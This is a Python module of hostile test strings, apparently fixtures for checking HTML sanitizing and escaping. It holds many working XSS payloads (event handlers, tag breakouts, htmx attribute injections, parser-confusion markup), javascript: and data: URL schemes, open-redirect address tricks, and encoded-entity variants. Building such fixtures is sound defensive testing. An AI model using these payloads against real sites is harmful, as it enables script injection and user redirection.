"""Hostile strings that are markup, pieces of an attribute, or addresses."""

EVENTS = [
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "hx-on::load",
]
ELEMENTS = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
    "x tabindex=1",
]
BODIES = ["alert(1)", "alert`1`", "fetch('//example.org')"]

SCRIPT = [f"<{element} {event}={BODIES[0]}>" for element in ELEMENTS for event in EVENTS]
SCRIPT += [f"<{element}/{EVENTS[0]}={body}//" for element in ELEMENTS for body in BODIES[1:]]
# Out of where a text may stand: a title, a text area, a comment, a script, an attribute.
CLOSING = [
    "</title>",
    "</textarea>",
    "-->",
    "</script>",
    '">',
    "'>",
    "</style>",
    "</option></select>",
    "]]>",
    "</svg>",
]
OPENED = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<b>粗体</b>"]
SCRIPT += [closing + opened for closing in CLOSING for opened in OPENED]
HTMX = [
    "hx-get=//example.org hx-trigger=load",
    "hx-post=/cases/new/ hx-vals='{}'",
    "data-hx-get=/ data-hx-trigger=load",
]
HTMX += [
    "hx-swap-oob=true id=content",
    "hx-vals='js:{x:alert(1)}'",
    "hx-trigger='load[alert(1)]'",
    "hx-ext=x hx-boost=true",
]
SCRIPT += [f"<div {attribute}>x</div>" for attribute in HTMX]
SCRIPT += [
    f"<{tag}"
    for tag in (
        "script",
        "img src=",
        "a href='",
        "!--",
        "?xml",
        "!DOCTYPE",
        "![CDATA[",
        "/body",
        "b\n",
        "b\0",
    )
]
SCRIPT += [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
]
SCRIPT += [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template shadowrootmode=open><b>x",
    "<plaintext>",
]
SCRIPT += [
    "<SCRIPT\n>alert(1)</SCRIPT\t>",
    "<scr\0ipt>x",
    "<<script>x",
    "<script\u3000>x",
    "<ſcript>alert(1)</ſcript>",
    "＜b＞x＜/b＞",
]

QUOTES = ['"', "'", "`", "", '\\"', "&quot;", "“", "＂", "\u2019"]
ATTRIBUTE = [
    f"{quote} {said}"
    for quote in QUOTES
    for said in ("onfocus=alert(1) autofocus x=", "style=display:none ", "/><b ")
]
ATTRIBUTE += [f"x{quote}>" for quote in QUOTES] + [
    "x\tonclick=alert(1)",
    "x\nonclick=alert(1)",
    "x/onclick=alert(1)",
]
ATTRIBUTE += [
    "id=content",
    'x" id="content',
    "x' hidden '",
    "x checked disabled readonly",
    '" aria-hidden="true',
    '"class="',
]

WORDS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
]
WORDS += [
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:x",
    "feed:x",
]
WORDS += [
    "//example.org",
    "///example.org",
    "/\\example.org",
    "\\\\example.org",
    "https:example.org",
    "https:///example.org",
]
WORDS += [
    "http://localhost@example.org/",
    "http://example.org#@localhost/",
    "//example.org%2f..",
    "//ｅｘａｍｐｌｅ.org",
    "//例子.测试",
]
WORDS += [
    "/%09/example.org",
    "/%5cexample.org",
    "/.example.org",
    "mailto:x",
    "?next=//example.org",
    "#<b>",
    "http://[::1",
    "http://x:y",
]
SCHEME = [*WORDS, *(f" {word}" for word in WORDS[:6]), *(f"{word}?{'x' * 30}" for word in WORDS[10:16])]

ENTITY = [
    "&lt;b&gt;",
    "&#x3c;b>",
    "&#60b",
    "&amp;lt;",
    "&quot;",
    "&#34;",
    "&#39;",
    "&apos;",
    "&nbsp",
    "&#0;",
    "&#xD800;",
    "&bogus;",
]
ENTITY += [
    "%3Cb%3E",
    "%253Cb%253E",
    "\\u003cb\\u003e",
    "\\x3cb\\x3e",
    "\\74b\\76",
    "+ADw-b+AD4-",
    "¼b¾",
    "&#128;",
    "&#1114112;",
    "&;",
]
